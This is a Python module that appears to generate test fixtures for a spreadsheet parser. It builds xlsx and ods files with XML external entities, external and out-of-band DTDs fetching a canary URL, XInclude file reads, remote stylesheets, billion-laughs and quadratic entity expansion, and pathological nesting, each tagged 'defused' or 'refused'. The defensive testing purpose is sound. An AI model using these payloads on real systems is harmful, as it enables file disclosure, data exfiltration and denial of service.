"""XML that fetches from elsewhere or grows without end, in each part that holds XML."""

from __future__ import annotations

from .model import CANARY_FILE, CANARY_URL, Kit
from .parts import SHEET, Parts, inline, number, ods, row, xlsx

BOOK_PARTS = (
    "[Content_Types].xml",
    "_rels/.rels",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    SHEET,
    "xl/styles.xml",
    "xl/sharedStrings.xml",
    "docProps/core.xml",
)
ODS_PARTS = ("content.xml", "styles.xml", "meta.xml", "META-INF/manifest.xml")
NEEDED = ("xl/workbook.xml", SHEET, "xl/sharedStrings.xml", "content.xml")


def _root(text: str) -> tuple[str, str]:
    """Split a part after its XML declaration and name its root element."""
    body = text.split("?>", 1)[1].lstrip()
    return body, body[1:].split(" ", 1)[0].split(">", 1)[0]


def _spoil(book: Parts, part: str, subset: str, use: str, outside: str = "") -> bytes:
    """Put a document type before a part and use its entity inside it."""
    body, root = _root(book.text(part))
    spots = ('<t xml:space="preserve">', "<t>", "<text:p>", "<dc:creator>")
    spot = next((s for s in spots if s in body), None)
    if spot and use:
        body = body.replace(spot, spot + use, 1)
    elif use:
        at = body.index(">") + 1
        if body[at - 2] == "/":
            body = f"{body[: at - 2]}>{use}</{root}>"
        else:
            body = body[:at] + use + body[at:]
    text = f'<?xml version="1.0"?>\n<!DOCTYPE {root} {outside}[{subset}]>\n{body}'
    return book.put(part, text).zip()


def laughs(levels: int = 10, wide: int = 10) -> str:
    """Give the entity declarations of the billion laughs."""
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * wide}">' for n in range(1, levels)]
    return "".join(lines)


def _book() -> Parts:
    """Give an honest workbook with one text held in its sheet, where an entity can be used."""
    return xlsx(row(7, inline("A7", "Fernhill") + number("B7", 5)))


def _label(part: str) -> str:
    """Give a part's name as a plain word."""
    return part.replace("/", "-").replace("[", "").replace("]", "").replace(".", "-").strip("-_")


def _fetch(kit: Kit) -> None:
    """Write parts that ask for a local file or an address."""
    family = "xml-external-entity"
    for kind, parts in (("xlsx", BOOK_PARTS), ("ods", ODS_PARTS)):
        for n, part in enumerate(parts):
            for word, where in (("file", CANARY_FILE), ("http", f"{CANARY_URL}/{kind}/{n}")):
                book = _book() if kind == "xlsx" else ods()
                body = _spoil(book, part, f'<!ENTITY e SYSTEM "{where}">', "&e;")
                kit.add(family, f"{_label(part)}-{word}.{kind}", body, "defused")
    family = "xml-external-dtd"
    dtd = f"{CANARY_URL}/evil.dtd"
    for kind, part in (("xlsx", SHEET), ("xlsx", "xl/workbook.xml"), ("ods", "content.xml")):
        make_one = _book if kind == "xlsx" else ods
        name = _label(part)
        kit.add(
            family,
            f"{name}-parameter.{kind}",
            _spoil(make_one(), part, f'<!ENTITY % p SYSTEM "{dtd}"> %p;', ""),
            "defused",
        )
        kit.add(
            family,
            f"{name}-subset.{kind}",
            _spoil(make_one(), part, "", "", f'SYSTEM "{dtd}" '),
            "defused",
        )
        kit.add(
            family,
            f"{name}-public.{kind}",
            _spoil(make_one(), part, "", "", f'PUBLIC "-//A//B" "{dtd}" '),
            "defused",
        )
        kit.add(
            family,
            f"{name}-out-of-band.{kind}",
            _spoil(
                make_one(),
                part,
                f'<!ENTITY % f SYSTEM "{CANARY_FILE}"><!ENTITY % p SYSTEM "{dtd}">%p;',
                "",
            ),
            "defused",
        )
        book = make_one()
        xml, _ = _root(book.text(part))
        at = xml.index(">") + 1
        pull = (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{CANARY_FILE}" '
            'parse="text"/>'
        )
        kit.add(
            family,
            f"{name}-xinclude.{kind}",
            book.put(part, xml[:at] + pull + xml[at:]).zip(),
            "defused",
        )
        book = make_one()
        sheet = f'<?xml-stylesheet type="text/xsl" href="{CANARY_URL}/x.xsl"?>'
        kit.add(
            family,
            f"{name}-stylesheet.{kind}",
            book.put(part, '<?xml version="1.0"?>' + sheet + xml).zip(),
            "defused",
        )


def _grow(kit: Kit) -> None:
    """Write parts whose entities grow without end."""
    family = "xml-entity-growth"
    for kind, parts in (("xlsx", BOOK_PARTS), ("ods", ODS_PARTS)):
        for part in parts:
            make_one = _book if kind == "xlsx" else ods
            name = _label(part)
            needed = part in NEEDED
            kit.add(
                family,
                f"{name}-laughs.{kind}",
                _spoil(make_one(), part, laughs(), "&l9;"),
                "refused" if needed else "defused",
            )
            if needed:
                big = f'<!ENTITY a "{"a" * 100_000}">'
                kit.add(
                    family,
                    f"{name}-quadratic.{kind}",
                    _spoil(make_one(), part, big, "&a;" * 50_000),
                    "refused",
                )
                kit.add(
                    family,
                    f"{name}-recursive.{kind}",
                    _spoil(make_one(), part, '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
                    "refused",
                )
                kit.add(
                    family,
                    f"{name}-parameter-laughs.{kind}",
                    _spoil(
                        make_one(),
                        part,
                        "<!ENTITY % a 'x'>"
                        + "".join(f"<!ENTITY % p{n} '{'x' * 50}'>" for n in range(1000)),
                        "",
                    ),
                    "defused",
                )
    family = "xml-shape"
    for kind, part in (("xlsx", SHEET), ("ods", "content.xml")):
        for label, junk, wants in (
            ("deep-100000", "<x>" * 100_000 + "</x>" * 100_000, "defused"),
            (
                "attributes-100000",
                "<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>",
                "defused",
            ),
            (
                "namespaces-20000",
                "<x " + " ".join(f'xmlns:n{n}="u:{n}"' for n in range(20_000)) + "/>",
                "defused",
            ),
            ("long-name-1m", f"<{'n' * 1_000_000}/>", "defused"),
            ("unclosed", "<x>", "refused"),
            ("two-roots", "</x>", "refused"),
            ("nul-reference", "<x>&#0;</x>", "refused"),
        ):
            book = _book() if kind == "xlsx" else ods()
            body, _ = _root(book.text(part))
            at = body.index(">") + 1
            kit.add(
                family,
                f"{_label(part)}-{label}.{kind}",
                book.put(part, body[:at] + junk + body[at:]).zip(),
                "refused" if wants == "refused" else "defused",
            )


def make(kit: Kit) -> None:
    """Write every file of this module."""
    _fetch(kit)
    _grow(kit)
